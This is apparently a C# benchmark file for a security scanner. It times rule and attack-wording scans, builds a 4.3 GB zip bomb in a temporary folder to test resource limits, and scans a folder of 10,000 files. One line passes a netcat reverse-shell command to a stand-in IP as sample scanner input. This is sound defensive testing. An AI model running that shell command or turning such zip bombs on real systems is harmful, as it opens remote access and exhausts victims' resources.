using System.Globalization;
using System.IO.Compression;
using System.Text;
using Symbiont.Scanning;
using Symbiont.Scanning.Rules;
using Symbiont.Scanning.Wording;

namespace Symbiont.Benchmarks.Scanning;

/// <summary>How fast texts are scanned on one core, what a bomb takes, and how long a large folder does.</summary>
internal static class ScanBenchmark
{
    public static void Run(TimeSpan time)
    {
        // The bomb first: the peak of the process is then its own.
        var scanner = new SkillScanner();
        Bomb(scanner);
        var text = MixedText.Make(4 << 20);
        var rules = new RuleAnalyzer("rules", RuleTable.Default);
        Report("the 40 rules, mixed text", time, text, piece => rules.Analyze(new ScanSource(piece.Name, piece.Text), CancellationToken.None).Count());
        var words = new PassageScorer(WordWeights.Default);
        Report("words of attacks, mixed text", time, text, piece => words.Score(piece.Text, SourceKind.OtherCode).Count(passage => passage.Score > WordingJudge.Least));
        Report("everything, mixed text", time, text, piece => scanner.ScanText(piece.Text, piece.Name).Findings.Count);
        Folder(scanner);
        HostileBenchmark.Run(scanner);
    }

    private static void Report(string what, TimeSpan time, IReadOnlyList<(string Name, string Text)> pieces, Func<(string Name, string Text), int> scan)
    {
        var bytes = pieces.Sum(piece => (long)Encoding.UTF8.GetByteCount(piece.Text));
        var found = pieces.Sum(scan);
        var (rounds, started, cpu) = (0L, TimeProvider.System.GetTimestamp(), Environment.CpuUsage.TotalTime);
        while (TimeProvider.System.GetElapsedTime(started) < time)
        {
            foreach (var piece in pieces)
                scan(piece);
            rounds++;
        }

        var elapsed = TimeProvider.System.GetElapsedTime(started);
        cpu = Environment.CpuUsage.TotalTime - cpu;
        Line($"{what,-28} {bytes * rounds / elapsed.TotalSeconds / 1e6,8:N1} MB/s   {cpu / elapsed,4:N2} cores   {pieces.Count} files, {bytes / 1e6:N1} MB, {found} findings");
    }

    private static void Bomb(SkillScanner scanner)
    {
        var folder = Directory.CreateTempSubdirectory("symbiont-scan-");
        try
        {
            var path = Path.Combine(folder.FullName, "bomb.zip");
            using (var zip = ZipFile.Open(path, ZipArchiveMode.Create))
            {
                var zeros = new byte[1 << 20];
                for (var i = 0; i < 8; i++)
                {
                    using var entry = zip.CreateEntry($"{i}.bin", CompressionLevel.SmallestSize).Open();
                    for (var megabyte = 0; megabyte < 512; megabyte++)
                        entry.Write(zeros);
                }
            }

            _ = scanner.ScanText("nc -e /bin/sh 203.0.113.9 1", "a.sh");
            var before = Peak();
            var started = TimeProvider.System.GetTimestamp();
            var result = scanner.ScanSkill(path);
            Line($"zip bomb, {new FileInfo(path).Length / 1e6:N1} MB for 4.3 GB: {TimeProvider.System.GetElapsedTime(started).TotalSeconds:N1} s, the process had at most {before / 1e6:N0} MB before and {Peak() / 1e6:N0} MB after; {result.Findings.Count} findings, the first: {result.Findings[0].Rule}");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static void Folder(SkillScanner scanner)
    {
        var folder = Directory.CreateTempSubdirectory("symbiont-scan-");
        try
        {
            var pieces = MixedText.Make(32 << 20, pieceLength: 3200);
            for (var i = 0; i < 10_000; i++)
            {
                var into = Directory.CreateDirectory(Path.Combine(folder.FullName, (i / 100).ToString(CultureInfo.InvariantCulture)));
                File.WriteAllText(Path.Combine(into.FullName, $"{i}-{pieces[i % pieces.Count].Name}"), pieces[i % pieces.Count].Text);
            }

            var started = TimeProvider.System.GetTimestamp();
            var result = scanner.ScanSkill(folder.FullName);
            Line($"folder of {result.Files:N0} files, {result.Bytes / 1e6:N0} MB: {TimeProvider.System.GetElapsedTime(started).TotalSeconds:N1} s");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static long Peak()
    {
        using var process = System.Diagnostics.Process.GetCurrentProcess();
        return process.PeakWorkingSet64;
    }

    private static void Line(FormattableString line) => Console.WriteLine(line.ToString(CultureInfo.InvariantCulture));
}
